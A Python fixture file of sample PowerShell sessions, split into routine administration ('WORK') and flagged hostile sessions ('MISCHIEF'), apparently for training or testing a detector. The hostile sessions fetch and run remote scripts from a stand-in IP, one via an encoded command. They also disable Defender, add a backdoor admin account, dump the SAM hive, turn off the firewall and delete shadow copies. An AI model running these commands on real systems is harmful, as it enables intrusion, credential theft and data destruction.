"""Sessions in Windows PowerShell, in the language of `screens`."""

from __future__ import annotations

WORK = {
    "ad-look": r"""
$ whoami
win-ad-01\ssm-user
$ Get-ADUser -Filter 'PasswordExpired -eq $true' -Properties PasswordExpired | Select-Object -First 2 Name
Name
----
svc_batch
j.doe

$ Get-EventLog -LogName Security -Newest 2 -InstanceId 4625 | Format-List Message
Message : An account failed to log on. Account Name: admin. Failure Reason: Unknown user name or bad password.
          net user admin /add was denied by policy
Message : An account failed to log on. Account Name: root.

$ Get-Service NTDS, DNS
Status   Name               DisplayName
------   ----               -----------
Running  NTDS               Active Directory Domain Services
Running  DNS                DNS Server

$ exit
""",
    "sql-look": r"""
%cd C:\Users\ssm-user
$ Get-Process sqlservr | Select-Object Id, CPU, WS
  Id     CPU         WS
  --     ---         --
2840 5120.31 1843208192

$ Get-ChildItem D:\Backups -Filter *.bak | Sort-Object LastWriteTime | Select-Object -Last 1
    Directory: D:\Backups
-a----       @{20h|%d/%m/%Y     %H:%M}    9412345856 orders_full.bak

$ foreach ($name in 'MSSQLSERVER', 'SQLSERVERAGENT') {
>     Get-Service $name | Select-Object Name, Status
> }
Name            Status
----            ------
MSSQLSERVER    Running
SQLSERVERAGENT Running

$ Test-NetConnection orders-api.internal.example.com -Port 443
ComputerName     : orders-api.internal.example.com
TcpTestSucceeded : True

$ exit
""",
}

MISCHIEF = {
    "ad-evil": r"""
$ hostname
win-ad-01
!$ Set-MpPreference -DisableRealtimeMonitoring $true
!$ IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.50/a.ps1')
[+] ready
!$ New-LocalUser -Name support2 -Password (ConvertTo-SecureString 'Made-Up-Pass1!' -AsPlainText -Force)
Name     Enabled Description
----     ------- -----------
support2 True

!$ Add-LocalGroupMember -Group Administrators -Member support2
!$ reg save HKLM\SAM C:\Windows\Temp\s.hiv
The operation completed successfully.
!$ New-NetFirewallRule -DisplayName rdp2 -Direction Inbound -LocalPort 3390 -Protocol TCP -Action Allow
!$ netsh advfirewall set allprofiles state off
Ok.
!$ powershell -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwAxADkAOAAuADUAMQAuADEAMAAwAC4ANQAwAC8AYgApAA==
!$ Clear-History
$ exit
""",
    "ad-live": r"""
$ Get-ADDomain | Select-Object DNSRoot
DNSRoot
-------
corp.example.com

!$ Invoke-WebRequest http://198.51.100.50/t.ps1 -UseBasicParsing | iex
!$ vssadmin delete shadows /all /quiet
""",
}
